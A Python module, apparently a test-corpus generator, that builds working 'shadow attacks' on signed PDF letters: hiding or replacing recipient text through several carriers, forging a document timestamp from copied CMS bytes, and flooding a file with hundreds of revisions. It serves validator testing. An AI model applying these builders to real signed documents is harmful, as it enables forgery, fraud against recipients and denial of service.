"""Hostile PDFs: the "shadow attacks" on signed letters, written as an attacker would.

Mainka, Mladenov and Rohlmann (NDSS 2021) sort them by effect (hide, replace,
hide-and-replace) and by what carries them. Each builder here takes a letter and
returns the letter with one attack in a new incremental revision, optionally in
the same revision as a signature the attacker really owns (an approver signing
"their" revision), so every combination of the issue's corpus can be built:

- effect (:class:`Effect`): a white box over the "Kepada" text, new text over it,
  or both;
- carrier (:class:`Carrier`): the page's content stream, an overlay annotation,
  another form field's appearance moved over the text, the signer's own field's
  rectangle stretched over the text, a new visible field filled with a fake
  ``/DocTimeStamp`` (copied CMS bytes, made-up byte range);
- plus :func:`many_revisions`: a signature followed by hundreds of allowed-looking
  revisions, each adding an empty field (the file that took the page down).
"""

from __future__ import annotations

import enum
import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers


class Effect(enum.StrEnum):
    HIDE = "sembunyikan"
    REPLACE = "ganti"
    HIDE_AND_REPLACE = "sembunyikan-dan-ganti"


class Carrier(enum.StrEnum):
    CONTENT = "isi-halaman"
    ANNOTATION = "anotasi"
    FIELD_APPEARANCE = "tampilan-kolom-lain"
    OWN_RECT = "kolom-sendiri-diperbesar"
    NEW_FIELD = "kolom-baru-stempel-waktu"


# Where the attack paints, in page coordinates: over the "Kepada" lines of the letter.
AREA = (60.0, 560.0, 540.0, 700.0)
FAKE_TEXT = "DIUBAH: Kepada orang lain"
_FONT = "FSh"


def effect_content(effect: Effect, width: float, height: float) -> bytes:
    """The drawing, in a box of ``width`` x ``height`` whose lower left corner is 0 0."""
    parts = []
    if effect in (Effect.HIDE, Effect.HIDE_AND_REPLACE):
        parts.append(b"q 1 1 1 rg 0 0 %.1f %.1f re f Q" % (width, height))
    if effect in (Effect.REPLACE, Effect.HIDE_AND_REPLACE):
        parts.append(b"BT /%s 14 Tf 0 0 0 rg 12 %.1f Td (%s) Tj ET"
                     % (_FONT.encode(), height / 2, FAKE_TEXT.encode()))
    return b"\n".join(parts)


def _font() -> generic.DictionaryObject:
    return generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding"),
    })


def _resources(writer) -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject({
        pdf_name("/" + _FONT): writer.add_object(_font())})})


def _overlay(writer, effect: Effect, rect=AREA) -> generic.IndirectObject:
    """A form XObject drawing ``effect`` over ``rect`` (an appearance stream)."""
    width, height = rect[2] - rect[0], rect[3] - rect[1]
    stream = generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject(
            generic.FloatObject(v) for v in (0, 0, width, height)),
        pdf_name("/Resources"): _resources(writer),
    }, stream_data=effect_content(effect, width, height))
    return writer.add_object(stream)


def _rect(rect=AREA) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(v) for v in rect)


def _field(writer, name: str):
    for ref in writer.root["/AcroForm"]["/Fields"]:
        obj = ref.get_object()
        if str(obj.get("/T")) == name:
            return ref, obj
    raise KeyError(name)


def inject(writer: IncrementalPdfFileWriter, effect: Effect, carrier: Carrier, *,
           own_field: str | None = None, victim_field: str = "Tanggal",
           cms_from: bytes | None = None) -> None:
    """Add the attack to ``writer``'s pending revision (written with whatever comes next)."""
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    if carrier is Carrier.CONTENT:
        width, height = AREA[2] - AREA[0], AREA[3] - AREA[1]
        body = b"q 1 0 0 1 %.1f %.1f cm\n%s\nQ" % (AREA[0], AREA[1],
                                                   effect_content(effect, width, height))
        ref = writer.add_object(generic.StreamObject(stream_data=body))
        writer.add_stream_to_page(0, ref, resources=_resources(writer))
    elif carrier is Carrier.ANNOTATION:
        annot = generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Square"),
            pdf_name("/Rect"): _rect(), pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _overlay(writer, effect)}),
        })
        writer.register_annotation(page_ref, writer.add_object(annot))
    elif carrier is Carrier.FIELD_APPEARANCE:
        ref, obj = _field(writer, victim_field)
        obj[pdf_name("/Rect")] = _rect()
        obj[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _overlay(writer, effect)})
        writer.update_container(obj)
    elif carrier is Carrier.OWN_RECT:
        if own_field is None:
            raise ValueError("OWN_RECT needs the signer's own field")
        _ref, obj = _field(writer, own_field)
        obj[pdf_name("/Rect")] = _rect()
        obj[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _overlay(writer, effect)})
        writer.update_container(obj)
    elif carrier is Carrier.NEW_FIELD:
        _new_timestamp_field(writer, effect, cms_from)
    else:  # pragma: no cover - closed set
        raise AssertionError(carrier)


def _new_timestamp_field(writer, effect: Effect, cms_from: bytes | None) -> None:
    """A new visible signature field over the text, filled with a fake document timestamp."""
    fields.append_signature_field(writer, fields.SigFieldSpec(
        "Stempel_Waktu", on_page=0, box=tuple(int(v) for v in AREA)))
    _ref, obj = _field(writer, "Stempel_Waktu")
    contents = _copied_cms(cms_from) if cms_from else b"\x30\x03\x02\x01\x00"
    fake = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/DocTimeStamp"),
        pdf_name("/Filter"): pdf_name("/Adobe.PPKLite"),
        pdf_name("/SubFilter"): pdf_name("/ETSI.RFC3161"),
        pdf_name("/ByteRange"): generic.ArrayObject(generic.NumberObject(v)
                                                    for v in (0, 100, 200, 300)),
        pdf_name("/Contents"): generic.ByteStringObject(contents),
    })
    obj[pdf_name("/V")] = writer.add_object(fake)
    obj[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _overlay(writer, effect)})
    writer.update_container(obj)


def _copied_cms(pdf: bytes) -> bytes:
    """The first signature's CMS bytes, as an attacker copies them from a genuine letter."""
    found = re.search(rb"/Contents\s*<([0-9A-Fa-f]+)>", pdf)
    return bytes.fromhex(found.group(1).decode()).rstrip(b"\0") if found else b""


def attacked(pdf: bytes, effect: Effect, carrier: Carrier, *, sign_as=None,
             field: str | None = None, cms_from: bytes | None = None) -> bytes:
    """``pdf`` plus one revision carrying the attack, signed in ``field`` by ``sign_as``
    (a pyHanko signer) in that same revision, or unsigned (an edit after issue)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    inject(writer, effect, carrier, own_field=field, cms_from=cms_from or pdf)
    out = io.BytesIO()
    if sign_as is None:
        writer.write(out)
    else:
        signers.PdfSigner(signers.PdfSignatureMetadata(field_name=field),
                          signer=sign_as).sign_pdf(writer, output=out)
    return out.getvalue()


def signed(pdf: bytes, signer, field: str) -> bytes:
    """``pdf`` signed in its existing ``field``, as an official's own software does."""
    out = io.BytesIO()
    signers.PdfSigner(signers.PdfSignatureMetadata(field_name=field), signer=signer).sign_pdf(
        IncrementalPdfFileWriter(io.BytesIO(pdf)), output=out)
    return out.getvalue()


def many_revisions(pdf: bytes, count: int) -> bytes:
    """``pdf`` followed by ``count`` revisions, each adding one empty signature field and its
    widget to the first page (what pyHanko's change analysis allows, and what a signing tool
    does when it adds a field), written by hand: pyHanko's writer would re-read the growing
    file for every revision."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    root_ref = reader.root_ref
    form_ref = reader.root.raw_get("/AcroForm")
    form = reader.root["/AcroForm"]
    fields_now = [form["/Fields"].raw_get(i) for i in range(len(form["/Fields"]))]
    fields_now = [(r.idnum, r.generation) for r in fields_now]
    form_body = io.BytesIO()
    generic.DictionaryObject({k: form.raw_get(k) for k in form if k != "/Fields"}) \
        .write_to_stream(form_body, None)
    form_text = form_body.getvalue()[:-2]  # without the closing ">>"
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = reader.get_object(page_ref.reference)
    annots = page.get("/Annots")
    annots_now = [] if annots is None else [
        (r.idnum, r.generation) for r in (annots.raw_get(i) for i in range(len(annots)))]
    page_body = io.BytesIO()
    generic.DictionaryObject({k: page.raw_get(k) for k in page if k != "/Annots"}) \
        .write_to_stream(page_body, None)
    page_text = page_body.getvalue()[:-2]  # without the closing ">>"
    size = int(reader.trailer["/Size"])
    prev = reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1)
    out = io.BytesIO()
    out.write(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    for i in range(count):
        field_num = size
        size += 1
        fields_now.append((field_num, 0))
        annots_now.append((field_num, 0))
        offsets = {field_num: out.tell()}
        out.write(b"%d 0 obj\n<< /FT /Sig /T (Kosong%04d) /Type /Annot /Subtype /Widget "
                  b"/F 132 /Rect [0 0 0 0] /P %d %d R >>\nendobj\n"
                  % (field_num, i, page_ref.idnum, page_ref.generation))
        offsets[form_ref.idnum] = out.tell()
        refs = b" ".join(b"%d %d R" % ref for ref in fields_now)
        out.write(b"%d %d obj\n%s /Fields [%s] >>\nendobj\n"
                  % (form_ref.idnum, form_ref.generation, form_text, refs))
        offsets[page_ref.idnum] = out.tell()
        refs = b" ".join(b"%d %d R" % ref for ref in annots_now)
        out.write(b"%d %d obj\n%s /Annots [%s] >>\nendobj\n"
                  % (page_ref.idnum, page_ref.generation, page_text, refs))
        xref = out.tell()
        out.write(b"xref\n")
        gens = {form_ref.idnum: form_ref.generation, page_ref.idnum: page_ref.generation}
        for num in sorted(offsets):
            out.write(b"%d 1\n%010d %05d n \n" % (num, offsets[num], gens.get(num, 0)))
        out.write(b"trailer\n<< /Size %d /Root %d %d R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
                  % (size, root_ref.idnum, root_ref.generation, prev, xref))
        prev = xref
    return out.getvalue()
